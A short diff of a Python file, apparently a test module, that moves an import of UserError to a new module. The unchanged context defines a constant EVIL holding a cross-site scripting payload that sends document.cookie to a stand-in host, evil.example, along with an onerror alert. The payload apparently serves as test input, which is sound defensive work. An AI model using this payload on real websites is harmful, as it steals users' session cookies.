@@ -12,8 +12,8 @@ import subprocess
 
 import tiny
 
+from lib.common.errors import UserError
 from lib.export import gguf_file
-from lib.params import UserError
 
 TRIALS = 240
 EVIL = "<script>fetch('http://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>"
